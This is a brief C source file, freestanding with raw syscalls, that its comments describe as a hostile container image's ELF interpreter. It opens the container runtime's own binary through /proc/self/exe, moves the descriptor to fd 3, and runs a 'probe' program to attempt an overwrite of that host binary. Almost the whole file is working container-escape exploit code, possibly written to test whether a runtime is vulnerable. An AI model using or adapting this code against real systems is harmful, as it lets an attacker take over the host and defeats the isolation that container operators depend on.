// A hostile image's ELF interpreter: it is loaded when the container executes the runtime's own file by /proc/self/exe.
// It keeps that file open and hands it to a program that tries to write to it. Freestanding: no libc runs before it.
#define CALL(nr, a, b, c) ({ long r; __asm__ volatile("syscall" : "=a"(r) : "a"(nr), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory"); r; })

void _start(void) {
    static char name[] = "/bin/probe", verb[] = "overwrite", path[] = "/proc/self/fd/3", self[] = "/proc/self/exe";
    char *argv[] = { name, verb, path, 0 };
    char *envp[] = { 0 };
    long fd = CALL(2, self, 0, 0);
    if (fd != 3) CALL(33, fd, 3, 0);
    CALL(59, name, argv, envp);
    CALL(231, 99, 0, 0);
}
